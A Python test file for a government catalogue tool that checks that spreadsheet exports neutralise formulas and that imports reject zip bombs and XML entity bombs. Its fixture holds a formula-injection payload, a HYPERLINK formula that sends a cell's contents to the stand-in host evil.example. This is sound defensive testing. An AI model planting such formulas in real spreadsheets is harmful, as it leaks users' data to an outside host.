"""Exports cannot carry formulas; imports refuse zip bombs and XML entity bombs with a 422."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from govtool.catalogue import exchange, import_reading
from govtool.catalogue.models import CatalogueEntry
from govtool.core.errors import ValidationError
from govtool.core.exports import FORMULA_STARTS
from tests import bombs
from tests.catalogue.factories import make_entry, make_world

EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A2,"Details")'


@pytest.fixture()
def world(db):
    world = make_world()
    halle = world["users"]["halle"]
    world["evil"] = make_entry(
        halle, world["halle"], [world["ministry"]], title=EVIL_TITLE, purpose="@SUM(1+1)*cmd"
    )
    db.session.commit()
    return world


def test_ministry_xlsx_export_holds_no_formula(client, login, world):
    login("ministerium@example.org")
    response = client.get("/catalogue/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert [c.value for c in sheet[1]][0] == "Kennung"  # the UI's labels
    assert all(c.data_type != "f" for c in cells)
    assert EVIL_TITLE in [c.value for c in cells]


def test_csv_export_neutralises_formula_cells_and_imports_them_back_unchanged(
    client, login, world, db
):
    login("halle@example.org")
    content = client.get("/catalogue/export.csv?variant=technical").data
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[0] == list(exchange.COLUMNS)
    assert all(not cell.startswith(FORMULA_STARTS) for row in rows for cell in row)
    assert any(cell == "'" + EVIL_TITLE for cell in rows[1])
    db.session.delete(world["evil"])
    db.session.commit()
    response = client.post(
        "/catalogue/import",
        data={"file": (io.BytesIO(content), "katalog.csv")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 302, response.get_data(as_text=True)
    titles = db.session.scalars(sa.select(CatalogueEntry)).all()
    assert EVIL_TITLE in {e.latest_version.title for e in titles}


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (lambda: bombs.xlsx_with_huge_cell(), "ZIP-Bombe"),
        (
            lambda: bombs.lie_about_size(
                bombs.xlsx_with_huge_cell(64 * bombs.MB), "xl/worksheets/sheet1.xml"
            ),
            "beschädigt",
        ),
        (lambda: bombs.xlsx_with_dtd(), "DTD"),
        (lambda: bombs.xlsx_with_dtd("xl/workbook.xml"), "DTD"),
    ],
    ids=["512-MiB-cell", "lying-header", "billion-laughs-sheet", "billion-laughs-workbook"],
)
def test_hostile_xlsx_imports_get_a_422_and_save_nothing(client, login, world, db, make, message):
    login("halle@example.org")
    before = db.session.scalar(sa.select(sa.func.count(CatalogueEntry.id)))
    response = client.post(
        "/catalogue/import",
        data={"file": (io.BytesIO(make()), "katalog.xlsx")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 422
    assert message in response.get_data(as_text=True)
    db.session.expire_all()
    assert db.session.scalar(sa.select(sa.func.count(CatalogueEntry.id))) == before


def test_openpyxl_parses_with_defusedxml_and_its_refusal_is_a_422(app, monkeypatch):
    assert openpyxl.DEFUSEDXML is True
    # Even if a DTD got past the archive check, openpyxl's defusedxml refuses it: a 422.
    monkeypatch.setattr(import_reading, "check_archive", lambda content: None)
    with app.test_request_context(), pytest.raises(ValidationError) as refused:
        import_reading.read_xlsx(bombs.xlsx_with_dtd())
    assert refused.value.status_code == 422
